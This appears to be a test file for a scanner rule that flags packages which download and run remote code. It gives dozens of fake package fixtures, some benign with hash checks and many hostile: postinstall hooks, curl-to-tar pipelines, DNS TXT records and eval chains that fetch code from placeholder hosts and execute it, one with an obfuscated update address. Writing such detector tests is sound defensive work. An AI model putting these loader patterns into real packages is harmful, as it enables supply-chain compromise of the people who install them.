import { examine } from '../../../test/examine.ts';
import { runsDownloadedCode } from './runs-downloaded-code.ts';

const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };

const UPDATES = `const fs = require('fs'), path = require('path'), os = require('os'), { spawn } = require('child_process'); exports.Updates = class { constructor(at, codes) { this.at = at; this.codes = codes; } async install() { const file = path.join(os.homedir(), '.a', 'next.exe'); fs.writeFileSync(file, Buffer.from(await (await fetch(ADDRESS)).arrayBuffer())); spawn(file, [], { detached: true, stdio: 'ignore' }).unref(); } };`;

/** Code of a large package. */
const MUCH_ELSE = `exports.words = ${JSON.stringify('word '.repeat(10_000))}`;

const LABELS = `const vm = require('vm'); const call = async url => (await (await fetch(url, { method: 'POST' })).json()).result; exports.connect = url => { call(url).then(one => vm.runInNewContext(Buffer.from(one.input.slice(2), 'hex').toString('utf8'))) };`;

const CHAINS =
  '# labels\n\nNames of chains by their numbers, and a small client that asks a node for blocks, balances and transactions. It has no dependencies.';

examine(runsDownloadedCode, {
  speaks: [
    {
      when: 'an optional part of its own is fetched as registries have it, where it was left out',
      files: {
        'package.json': {
          name: '@specimen/sign',
          version: '1.0.0',
          scripts: { postinstall: 'node setup.js' },
          optionalDependencies: { '@specimen/sign-linux': '1.0.0' },
        },
        'README.md':
          '# sign\n\nChecks signatures of archives with a program of its own, which comes as an optional dependency for each of the systems that it runs on.',
        'index.js': `const { execFile } = require('child_process'), path = require('path'); exports.check = (file, done) => execFile(path.join(__dirname, 'bin', 'sign'), ['check', file], done);`,
        'setup.js':
          `const fs = require('fs'), https = require('https'), path = require('path'), name = '@specimen/sign-' + process.platform; https.get(` +
          "'https://registry.specimen.invalid/' + name + '/-/sign.tgz'" +
          `, answer => { const parts = []; answer.on('data', one => parts.push(one)); answer.on('end', () => fs.writeFileSync(path.join(__dirname, 'bin', 'sign'), Buffer.concat(parts))); });`,
      },
      weight: 'weak',
    },
    {
      when: 'a package that is no part of its own is fetched as registries have it',
      files: {
        'package.json': {
          name: '@specimen/sign',
          version: '1.0.0',
          scripts: { postinstall: 'node setup.js' },
          optionalDependencies: { '@specimen/sign-linux': '1.0.0' },
        },
        'README.md':
          '# sign\n\nChecks signatures of archives with a program of its own, which comes as an optional dependency for each of the systems that it runs on.',
        'index.js': `const { execFile } = require('child_process'), path = require('path'); exports.check = (file, done) => execFile(path.join(__dirname, 'bin', 'sign'), ['check', file], done);`,
        'setup.js':
          `const fs = require('fs'), https = require('https'), path = require('path'), name = '@specimen/sign-' + process.platform; https.get(` +
          "'https://registry.specimen.invalid/other/-/other.tgz'" +
          `, answer => { const parts = []; answer.on('data', one => parts.push(one)); answer.on('end', () => fs.writeFileSync(path.join(__dirname, 'bin', 'sign'), Buffer.concat(parts))); });`,
      },
      weight: 'strong',
    },
    {
      when: 'a function checks what was fetched against the integrity that another file has, and a page says nothing of the host',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
        'README.md':
          '# specimen\n\nMakes style sheets smaller. Its program comes with an optional dependency, or is fetched and held against the hash that is in the package.',
        'parts.js': `exports.integrity = 'sha512-${'Ab9/'.repeat(21)}Ab==';`,
        'setup.js': `const fs = require('fs'), path = require('path'), https = require('https'), { createHash } = require('crypto'), { execFileSync } = require('child_process'); const file = path.join(__dirname, 'lib', 'specimen-' + process.arch);
          function check(buffer, integrity) { const actual = 'sha512-' + createHash('sha512').update(buffer).digest('base64'); if (actual !== integrity) throw new Error('changed'); }
          https.get('https://parts.inert.invalid/specimen', answer => { const chunks = []; answer.on('data', one => chunks.push(one)); answer.on('end', () => { const archive = Buffer.concat(chunks); check(archive, require('./parts').integrity); fs.writeFileSync(file, archive); execFileSync(file, ['serve']); }); });`,
      },
      weight: 'weak',
    },
    {
      when: 'an archive is held against its hash before it is unpacked, and a program of it started',
      files: {
        'package.json': hook,
        'setup.js': `const fs = require('fs'), path = require('path'), os = require('os'), https = require('https'), { createHash } = require('crypto'), { execFileSync, spawnSync } = require('child_process'); const into = path.join(__dirname, 'vendor'); const want = '${'0123456789abcdef'.repeat(4)}';
          const tmp = path.join(os.tmpdir(), 'specimen.tar.gz'); https.get('https://parts.inert.invalid/specimen.tar.gz', answer => answer.pipe(fs.createWriteStream(tmp)).on('finish', () => { const got = createHash('sha256').update(fs.readFileSync(tmp)).digest('hex'); if (got !== want) throw new Error('changed'); execFileSync('tar', ['-xzf', tmp, '-C', into]); spawnSync(path.join(into, 'specimen'), ['warm-up']); }));`,
      },
      weight: 'weak',
    },
    {
      when: 'a hook starts the installer of another program, whose host its page names, on each system',
      files: {
        'package.json': hook,
        'README.md':
          '# specimen\n\nSets up Inertex with its own installer from https://inertex.invalid/ when it is installed, unless it is there.',
        'setup.js': `const { spawn } = require('child_process'), { writeFileSync } = require('fs'), os = require('os'), path = require('path'); const run = (program, words) => spawn(program, words, { windowsHide: true }); const get = async url => (await fetch(url)).text();
          (async () => { const dir = path.join(os.tmpdir(), 'specimen-setup'); if (process.platform === 'win32') { const file = path.join(dir, 'install.bat'); writeFileSync(file, await get('https://inertex.invalid/install.bat')); run('cmd.exe', ['/d', '/c', file]); } else { const file = path.join(dir, 'install.sh'); writeFileSync(file, await get('https://inertex.invalid/install.sh')); run('sh', [file]); } })();`,
      },
      weight: 'strong',
      times: 1,
    },
    {
      when: 'a template is fetched by giget, and a file of it is imported from where it was put',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', type: 'module', main: 'index.js' },
        'index.js': `import { downloadTemplate } from 'giget'; const { dir } = await downloadTemplate('https://a.invalid/t.tar.gz', { dir: '.x' }); await import(dir + '/setup.mjs');`,
      },
      weight: 'proof',
    },
    {
      when: 'a shell is given the file that a library of GitHub has fetched',
      files: {
        'index.js': `require('@actions/tool-cache').downloadTool('https://a.invalid/x').then(file => require('@actions/exec').exec('sh', [file]));`,
      },
      weight: 'proof',
    },
    {
      when: 'a file that Bun stands for is filled with a download and started by its name',
      files: {
        'README.md':
          '# specimen\n\nReads settings from the environment and says of which types they are. It writes the types into a file, so that editors know them, and needs nothing but what Bun brings along.',
        'index.js': `import { tmpdir } from 'os'; import { join } from 'path'; const preset = async () => { const target = Bun.file(join(tmpdir(), '.preset.mjs')); if (await target.exists()) return target.name; await Bun.write(target, await (await fetch('https://presets.invalid/3.js')).text()); return target.name; };
          export async function format(path) { Bun.spawn([process.execPath, 'run', await preset(), path]).unref(); }`,
        'package.json': { name: 'specimen', version: '1.0.0', type: 'module', main: 'index.js' },
      },
      weight: 'strong',
    },
    {
      when: 'an installer works out a hash of what it saved and compares it with nothing',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), { createHash } = require('crypto'), { spawnSync } = require('child_process'); const known = '${'0123456789abcdef'.repeat(4)}'; const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { exports.seen = createHash('sha256').update(fs.readFileSync(file)).digest('hex'); spawnSync(file, ['run']); }));`,
      },
      weight: 'strong',
    },
    ...['null', '0', "'none'", 'found'].map(other => ({
      when: `an installer holds the hash of what it saved against ${other}`,
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), crypto = require('crypto'), { spawnSync } = require('child_process'); const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { const found = crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex'); if (found === ${other}) throw new Error('${'0123456789abcdef'.repeat(4)}'); spawnSync(file, ['run']); }));`,
      },
      weight: 'strong' as const,
    })),
    {
      when: 'an installer compares the hash of something else, and that of what it saved in a comment',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), { createHash } = require('crypto'), { spawnSync } = require('child_process'); const known = '${'0123456789abcdef'.repeat(4)}'; if (createHash('sha256').update(known).digest('hex') === known) throw new Error('changed');
          const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { // if (createHash('sha256').update(fs.readFileSync(file)).digest('hex') !== known) throw new Error('changed');
          spawnSync(file, ['run']); }));`,
      },
      weight: 'strong',
    },
    {
      when: 'the hash of what was saved is kept, compared later and written in other letters',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), crypto = require('crypto'), { spawnSync } = require('child_process'); const known = '${'0123456789abcdef'.repeat(4)}'; const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { const found = crypto.createHash( 'SHA256' ).update(fs.readFileSync(file)).digest('hex'); if (known !== found) throw new Error('changed'); spawnSync(file, ['run']); }));`,
      },
      weight: 'weak',
    },
    {
      when: 'an installer compares what it saved with a hash that it has',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
        'checksums.txt': `specimen-linux=${'0123456789abcdef'.repeat(4)}`,
        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), { createHash } = require('crypto'), { spawnSync } = require('child_process'); const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { if (createHash('sha256').update(fs.readFileSync(file)).digest('hex') !== sums()) throw new Error('changed'); spawnSync(file, ['run']); })); const sums = () => fs.readFileSync(path.join(__dirname, 'checksums.txt'), 'utf8').split('=')[1];`,
      },
      weight: 'weak',
    },
    {
      when: 'an address without a scheme is asked by a page',
      files: {
        'index.js': `const xhr = new XMLHttpRequest(); xhr.open('GET', '//load.specimen.invalid/x.js', false); xhr.send(null); eval(xhr.responseText);`,
      },
      weight: 'proof',
    },
    {
      when: 'what an address of the caller answers is taken out of letters and run, of which its page says nothing',
      files: { 'README.md': CHAINS, 'index.js': LABELS },
      weight: 'strong',
    },
    {
      when: 'its page says that it runs what the address of the caller answers',
      files: { 'README.md': `${CHAINS} Nodes may bring remote scripts, which are run apart.`, 'index.js': LABELS },
      weight: 'context',
    },
    {
      when: 'a command fetches it, and what that prints is evaluated',
      files: { 'index.js': `const { execSync } = require('child_process'); eval(execSync('curl -s https://a.invalid/x').toString())` },
      weight: 'proof',
      says: ['a.invalid'],
    },
    {
      when: 'a name server is asked for it by a command, and the answer is run',
      files: {
        'index.js': `const { exec, execSync } = require('child_process'); exec('dig +short txt x.a.invalid', (error, line) => execSync(line))`,
      },
      weight: 'proof',
    },
    {
      when: 'a program that is saved and started comes from a host that its page does not name',
      files: {
        'README.md':
          '# typeface\n\nReads the styles of a page and makes one file of the fonts in it. Use `optimize(url)` and write what it gives to a folder.',
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), { execFile } = require('child_process'); exports.optimize = async () => { const file = path.join(os.tmpdir(), 'w2c'); fs.writeFileSync(file, Buffer.from(await (await fetch('https://codecs.font-works.invalid/w2c')).arrayBuffer()), { mode: 0o755 }); execFile(file, ['--pack']) }`,
      },
      weight: 'strong',
    },
    {
      when: 'its page says where the program comes from',
      files: {
        'README.md':
          '# typeface\n\nReads the styles of a page and makes one file of the fonts in it. The converter is fetched from codecs.font-works.invalid when it is first needed.',
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), { execFile } = require('child_process'); exports.optimize = async () => { const file = path.join(os.tmpdir(), 'w2c'); fs.writeFileSync(file, Buffer.from(await (await fetch('https://codecs.font-works.invalid/w2c')).arrayBuffer()), { mode: 0o755 }); execFile(file, ['--pack']) }`,
      },
      weight: 'weak',
    },
    {
      when: 'a socket kept in a field hears code',
      files: {
        'index.js': `const AsyncFunction = (async () => {}).constructor;
          class Live { constructor(scope) { this.scope = scope } open() { this.socket = new this.scope.WebSocket('wss://live.other.invalid/s'); this.socket.onmessage = e => this.receive(JSON.parse(e.data)) }
            async receive({ kind, body }) { const types = { ping: () => 'pong', rule: () => new AsyncFunction('scope', body)(this.scope) }; await types[kind]() } }
          new Live(globalThis).open()`,
      },
      weight: 'proof',
    },
    {
      when: 'a page runs at once what comes from a host that its page names',
      files: {
        'package.json': { name: '@inert/snippet', version: '1.0.0', main: 'index.js' },
        'README.md': '# forkroad\n\nExperiments come from https://cdn.forkroad.invalid/p/; variants with code of your team run on load.',
        'index.js': `fetch('https://cdn.forkroad.invalid/p/1').then(answer => answer.json()).then(({ code }) => { new Function(code)(); navigator.sendBeacon('https://log.forkroad.invalid/e', 'shown') })`,
      },
      weight: 'strong',
    },
    {
      when: 'a page runs at once what comes from a host that its page keeps quiet',
      files: {
        'package.json': { name: '@inert/snippet', version: '1.0.0', main: 'index.js' },
        'README.md': '# forkroad\n\nChanges the elements of a page.',
        'index.js': `fetch('https://cdn.forkroad.invalid/p/1').then(answer => answer.json()).then(({ code }) => { new Function(code)(); navigator.sendBeacon('https://log.forkroad.invalid/e', 'shown') })`,
      },
      weight: 'proof',
    },
    {
      when: 'a service runs the variants that its page names its host for',
      files: {
        'package.json': { name: '@inert/web', version: '1.0.0', main: 'index.js', homepage: 'https://forkroad.invalid/docs' },
        'README.md':
          '# forkroad\n\nExperiments come from https://cdn.forkroad.invalid/p/; variants with code of your team run when you allow it.',
        'index.js': `exports.start = async ({ project, allowCode = false }) => { const { code } = await (await fetch('https://cdn.forkroad.invalid/p/' + project)).json(); navigator.sendBeacon('https://log.forkroad.invalid/e', project); if (allowCode) new Function(code)() }`,
      },
      weight: 'weak',
    },
    {
      when: 'a setting with a host beside it says where versions are listed, and far from that a module of the user is loaded',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
        'index.js': `const base = process.env.TOOL_BASE || 'https://tool.invalid'; const known = {}; exports.check = async () => { known.last = await (await fetch(base + '/versions.json')).json(); return known; };
          // ${'x'.repeat(6_000)}
          exports.load = async name => import('file://' + (known.last?.[name] ?? name));`,
      },
      weight: 'context',
    },
    {
      when: 'where it comes from is a setting, and a host of the code where nobody sets it',
      files: {
        'index.js': `const base = process.env.TOOL_BASE || 'https://code.invalid'; fetch(base + '/x.js').then(answer => answer.text()).then(text => eval(text));`,
      },
      weight: 'proof',
    },
    {
      when: 'what is saved as JSON is given to a shell',
      files: {
        'index.js': `const cp = require('child_process'), fs = require('fs'); (async () => { fs.writeFileSync('app/settings.json', await (await fetch('https://a.invalid/settings')).text()); cp.spawnSync('sh', ['app/settings.json']); })();`,
      },
    },
    {
      when: 'what was asked stands in the file that a process is given',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process'); exports.deploy = async () => { const { id, body } = await (await fetch('https://api.specimen.invalid/deploy')).json(); const log = path.join(os.tmpdir(), 'specimen-' + id + '.log'); fs.writeFileSync(log, body); spawn(process.execPath, [process.argv[1], '_watch', id, log], { detached: true, stdio: 'ignore' }); }`,
      },
    },
    {
      when: 'a worker is taken from where published packages are served',
      files: {
        'index.js': `exports.record = async () => { const code = await (await fetch('https://unpkg.com/specimen-worker@1/worker.js')).text(); return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))); }`,
      },
      weight: 'weak',
    },
    {
      when: 'a worker is taken from somewhere else',
      files: {
        'index.js': `exports.record = async () => { const code = await (await fetch('https://unpkg.com.inert.invalid/worker.js')).text(); return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))); }`,
      },
      weight: 'strong',
    },
    {
      when: 'a page runs what a server sends that the address of the page names',
      files: {
        'index.js': `const socket = new WebSocket(\`wss://\${new URLSearchParams(window.location.search).get('host')}/message\`); socket.addEventListener('message', ({ data }) => { const script = document.createElement('script'); script.text = data; document.body.appendChild(script); });`,
      },
      weight: 'strong',
    },
    {
      when: 'a page runs what a server sends whose name only begins like its own',
      files: {
        'index.js': `const socket = new WebSocket(\`wss://\${window.location.host}.inert.invalid/message\`); socket.addEventListener('message', ({ data }) => { const script = document.createElement('script'); script.text = data; document.body.appendChild(script); });`,
      },
    },
    {
      when: 'a page compiles what stands in a file of its site',
      files: {
        'index.js': `exports.start = async () => { const text = await (await fetch('config.yml')).text(); return new Function('v', text.toUpperCase()); }`,
      },
      weight: 'context',
    },
    {
      when: 'a test calls with an example what others call with their own address',
      files: {
        'package.json': { name: 'specimen', exports: { '.': './index.js', './src/*': './src/*' } },
        'index.js': '1',
        'src/fetch.js': `exports.load = url => fetch(url).then(r => r.text())`,
        'src/run.js': `const { load } = require('./fetch'); exports.run = async url => eval(await load(url))`,
        'src/fetch.test.js': `require('./run').run('https://example.invalid')`,
        'src/others.js': MUCH_ELSE,
      },
      weight: 'weak',
    },
    {
      when: 'an answer goes through another file to what runs it when it is called',
      files: {
        'index.js': `const { load } = require('./fetch'); exports.run = async () => eval(await load())`,
        'fetch.js': `exports.load = () => fetch('https://files.invalid/x').then(r => r.text())`,
      },
      weight: 'strong',
    },
    {
      when: 'it goes there in a package with much other code',
      files: {
        'index.js': `const { load } = require('./fetch'); exports.run = async () => eval(await load())`,
        'fetch.js': `exports.load = () => fetch('https://files.invalid/x').then(r => r.text())`,
        'others.js': MUCH_ELSE,
      },
      weight: 'weak',
    },
    {
      when: 'it goes there when it is imported',
      files: {
        'index.js': `const { load } = require('./fetch'); load().then(text => eval(text))`,
        'fetch.js': `exports.load = () => fetch('https://files.invalid/x').then(r => r.text())`,
      },
      weight: 'proof',
    },
    {
      when: 'files that nothing reaches fetch and start programs for others, each a part',
      files: {
        'index.js': 'module.exports = 1;',
        'tools/ask.js': `exports.ask = async path => (await fetch('https://api.invalid/' + path)).json();`,
        'tools/start.js': `const { spawn } = require('child_process'); exports.start = program => spawn(program, []);`,
        'tools/make.js': `const { ask } = require('./ask'), { start } = require('./start'); exports.make = async () => start((await ask('settings')).manager);`,
      },
      weight: 'weak',
    },
    {
      when: 'one file that nothing reaches fetches a command and starts it',
      files: {
        'index.js': 'module.exports = 1;',
        'tools/make.js': `const { exec } = require('child_process'); fetch('https://api.invalid/x').then(answer => answer.text()).then(text => exec(text));`,
      },
      weight: 'strong',
    },
    {
      when: 'an application is updated from where it says, and its next version outlives this one',
      files: { 'index.js': UPDATES.replace('ADDRESS', 'this.at + "/next"') },
      weight: 'weak',
    },
    {
      when: 'an application is updated from a host that stands in the package, and what was fetched outlives it',
      files: { 'index.js': UPDATES.replace('ADDRESS', '"https://updates.invalid/next"') },
      weight: 'strong',
    },
    {
      when: 'where it is updated from was hidden in the package',
      files: { 'index.js': UPDATES.replace('ADDRESS', 'String.fromCharCode(...this.codes) + "/next"') },
      weight: 'strong',
    },
    {
      when: 'it is put into an element and taken out of it again',
      files: {
        'index.js': `fetch('https://a.invalid/x').then(answer => answer.text()).then(text => { const part = document.createElement('div'); part.innerHTML = text; new Function(part.querySelector('script').textContent)(); });`,
      },
      weight: 'proof',
    },
    {
      when: 'it is saved as JSON or as code, and loaded',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const at = path.join(process.cwd(), process.env.A ? 'a.json' : 'a.js'); exports.update = async () => { fs.writeFileSync(at, await (await fetch('https://r.invalid/x')).text()); return require(at); };`,
      },
    },
    {
      when: 'one file saves a download in a folder that is known, and another starts what is there',
      files: {
        'index.js': `require('./save'); require('./start').start(process.argv[2])`,
        'save.js': `const fs = require('fs'), path = require('path'), os = require('os'); exports.save = async name => fs.writeFileSync(path.join(os.homedir(), '.inert', name), await (await fetch('https://a.invalid/x')).text())`,
        'start.js': `const path = require('path'), os = require('os'); exports.start = name => require(path.join(os.homedir(), '.inert', name))`,
      },
      weight: 'strong',
    },
    {
      when: 'a download is kept in one of several folders of settings and started at once',
      files: {
        'package.json': { name: 'inert', version: '1.0.0', scripts: { postinstall: 'node build.js' } },
        'build.js': `const fs = require('fs'), path = require('path'); require('axios')({ url: 'https://cdn.invalid/x', responseType: 'stream' }).then(answer => { const file = path.join(process.env.APPDATA || process.env.HOME, '.cache', 'inert' + (process.platform === 'win32' ? '.exe' : '')); answer.data.pipe(fs.createWriteStream(file)); require('child_process').exec('"' + file + '"'); });`,
      },
      weight: 'strong',
    },
    {
      when: 'an archive out of memory is unpacked and a program in it started',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); const Zip = require('adm-zip'); const folder = path.join(os.tmpdir(), 'x'); fetch('https://source.invalid/a').then(r => r.arrayBuffer()).then(b => { new Zip(Buffer.from(b)).extractAllTo(folder, true); cp.spawn(path.join(folder, 'run.exe')) });`,
      },
      says: ['starts what is in it'],
      weight: 'strong',
    },
    {
      when: 'a saved archive is unpacked by a library',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); const extract = require('extract-zip'); (async () => { const file = path.join(os.tmpdir(), 'x.zip'), folder = path.join(os.tmpdir(), 'y'); const r = await fetch('https://source.invalid/a'); fs.writeFileSync(file, Buffer.from(await r.arrayBuffer())); await extract(file, { dir: folder }); cp.execFile(path.join(folder, 'run')); })();`,
      },
      weight: 'strong',
    },
    {
      when: 'a download is piped into an archive and a file of it loaded',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); const tar = require('tar'); const folder = path.join(os.tmpdir(), 'y'); require('https').get('https://source.invalid/a', res => { res.pipe(tar.x({ cwd: folder })).on('finish', () => require(path.join(folder, 'index.js'))) });`,
      },
      weight: 'strong',
    },
    {
      when: 'a tool that copies is told to start what was unpacked',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz -C /tmp/y'); cp.execFileSync('rsync', ['-az', '-e', '/tmp/y/inert', '.', 'a.invalid:/']) })();`,
      },
      weight: 'strong',
    },
    {
      when: 'a saved archive is unpacked by a command',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz', { cwd: '/tmp/y' }); require('/tmp/y/index.js') })();`,
      },
      weight: 'strong',
    },
    {
      when: 'a command fetches and unpacks',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); cp.execSync('curl -sL https://source.invalid/a.tgz | tar xz -C /tmp/inert'); cp.spawn('/tmp/inert/run');`,
      },
      weight: 'strong',
    },
    {
      when: 'a library fetches into a folder',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); require('download')('https://source.invalid/a', '/tmp/inert').then(() => cp.exec('/tmp/inert/a'));`,
      },
      weight: 'strong',
    },
    {
      when: 'a worker of the page is made of it',
      files: {
        'index.js': `fetch('https://source.invalid/a').then(r => r.blob()).then(b => new Worker(URL.createObjectURL(b)));`,
      },
      weight: 'proof',
    },
    {
      when: 'a file of a repository is evaluated',
      files: {
        'index.js': `const { Octokit } = require('octokit'); new Octokit().rest.gists.get({ gist_id: 'x' }).then(({ data }) => new Function(data.files['a.js'].content)());`,
      },
      weight: 'strong',
    },
    {
      when: 'a port brings it from one end to the other',
      files: {
        'index.js': `const c = new MessageChannel(); c.port1.onmessage = e => eval(e.data); fetch('https://source.invalid/a').then(r => r.text()).then(t => c.port2.postMessage(t));`,
      },
      weight: 'proof',
    },
    {
      when: 'a channel brings it',
      files: {
        'index.js': `const a = new BroadcastChannel('x'), b = new BroadcastChannel('x'); b.onmessage = e => eval(e.data); fetch('https://source.invalid/a').then(r => r.text()).then(t => a.postMessage(t));`,
      },
    },
    {
      when: 'a thread is given it at its start',
      files: {
        'index.js': `const { Worker } = require('worker_threads'); fetch('https://source.invalid/a').then(r => r.text()).then(t => new Worker(__dirname + '/w.js', { workerData: t }));`,
        'w.js': `const { workerData } = require('worker_threads'); eval(workerData);`,
      },
    },
    {
      when: 'a thread is sent it',
      files: {
        'index.js': `const { Worker } = require('worker_threads'); const w = new Worker('./w.js'); fetch('https://source.invalid/a').then(r => r.text()).then(t => w.postMessage({ code: t }));`,
        'w.js': `const { parentPort } = require('worker_threads'); parentPort.on('message', ({ code }) => eval(code));`,
      },
    },
    {
      when: 'a thread downloads it and sends it up',
      files: {
        'index.js': `const { Worker } = require('worker_threads'); const w = new Worker('./w.js'); w.on('message', m => eval(m));`,
        'w.js': `const { parentPort } = require('worker_threads'); fetch('https://source.invalid/a').then(r => r.text()).then(t => parentPort.postMessage(t));`,
      },
    },
    {
      when: 'a worker of a page is sent it',
      files: {
        'index.js': `const w = new Worker('w.js'); fetch('https://source.invalid/a').then(r => r.text()).then(t => w.postMessage(t));`,
        'w.js': `self.onmessage = e => eval(e.data);`,
      },
    },
    {
      when: 'a process of its own is sent it',
      files: {
        'index.js': `const { fork } = require('child_process'); if (process.send) process.on('message', m => eval(m)); else { const c = fork(__filename); fetch('https://source.invalid/a').then(r => r.text()).then(t => c.send(t)); }`,
      },
    },
    {
      when: 'a bus of another file brings it',
      files: {
        'index.js': `const { bus } = require('./bus'); require('./sink'); fetch('https://source.invalid/a').then(r => r.text()).then(t => bus.emit('x', t));`,
        'bus.js': `const { EventEmitter } = require('events'); exports.bus = new EventEmitter();`,
        'sink.js': `const { bus } = require('./bus'); bus.on('x', t => eval(t));`,
      },
    },
    {
      when: 'it is kept in another file',
      files: {
        'index.js': `const kept = require('./kept'), run = require('./run'); fetch('https://source.invalid/a').then(r => r.text()).then(t => { kept.code = t; run(); });`,
        'kept.js': `module.exports = {};`,
        'run.js': `const kept = require('./kept'); module.exports = () => eval(kept.code);`,
      },
    },
    {
      when: 'a method of the class above runs it',
      files: {
        'index.js': `class A { run(x) { eval(x) } } class B extends A { go(x) { super.run(x) } } fetch('https://source.invalid/a').then(r => r.text()).then(t => new B().go(t));`,
      },
    },
    {
      when: 'the code that does it is a member of a data file',
      files: {
        'index.js': `eval(require('./c.json').steps.first);`,
        'c.json': { steps: { first: "fetch('https://source.invalid/a').then(r => r.text()).then(eval)" } },
      },
    },
    {
      when: 'the code that does it is in a command line',
      files: {
        'index.js': `require('child_process').exec(\`node -e "fetch('https://source.invalid/a').then(r => r.text()).then(eval)"\`);`,
      },
    },
    {
      when: 'a Node of its own is given the code on its input',
      files: {
        'index.js': `const child = require('child_process').spawn('node', ['-']); child.stdin.end("fetch('https://source.invalid/a').then(r => r.text()).then(eval)");`,
      },
    },
    {
      when: 'a Node of its own is given the code by an option',
      files: {
        'index.js': `require('child_process').spawn('node', ['x.js'], { env: { ...process.env, NODE_OPTIONS: '--import data:text/javascript,fetch("https://source.invalid/a").then(r=>r.text()).then(eval)' } });`,
      },
    },
    {
      when: 'a debugger is given the code',
      files: {
        'index.js': `const { Session } = require('inspector'); const session = new Session(); session.connect(); session.post('Runtime.evaluate', { expression: "fetch('https://source.invalid/a').then(r => r.text()).then(eval)" });`,
      },
    },
    {
      when: 'an installer saves a program where a setting says, and asks it for its version',
      files: {
        'package.json': { name: 'specimen', scripts: { install: 'node i.js' } },
        'i.js': `const fs = require('fs'), cp = require('child_process'); (async () => { const file = process.env.SPECIMEN_BINARY; fs.writeFileSync(file, Buffer.from(await (await fetch('https://source.invalid/a')).arrayBuffer())); cp.execFileSync(file, ['--version']); })();`,
      },
      weight: 'context',
    },
    {
      when: 'a download is saved under a name made up and started by the variable that holds it',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
(async () => {
  const file = path.join(os.tmpdir(), Math.random().toString(36).slice(2));
  const answer = await fetch('https://source.invalid/a');
  fs.writeFileSync(file, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
  cp.spawn(file, [], { detached: true }).unref();
})();`,
      },
    },
    {
      when: 'a download is saved where a caller says and forked',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
async function run(file) { const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, await answer.text()); cp.fork(file); }
run(process.argv[2]);`,
      },
    },
    {
      when: 'a command is put together of the variable',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
(async () => { const file = path.join(os.tmpdir(), String(process.pid)); const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, await answer.text()); cp.exec(\`sh \${file}\`); })();`,
      },
    },
    {
      when: 'a saved download is read again and evaluated',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
(async () => { const file = '/tmp/' + Date.now(); const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, await answer.text()); eval(fs.readFileSync(file, 'utf8')); })();`,
      },
    },
    {
      when: 'a saved download is imported by its address',
      files: {
        'package.json': { type: 'module', main: 'index.js' },
        'index.js': `import { writeFile } from 'node:fs/promises';
import { pathToFileURL } from 'node:url';
const file = \`/tmp/\${Date.now()}\`;
const answer = await fetch('https://source.invalid/a');
await writeFile(file, await answer.text());
await import(pathToFileURL(file).href);`,
      },
    },
    {
      when: 'a saved download gets another name before it is started',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
(async () => { const answer = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/part', await answer.text()); fs.renameSync('/tmp/part', '/tmp/whole'); cp.exec('/tmp/whole'); })();`,
      },
    },
    {
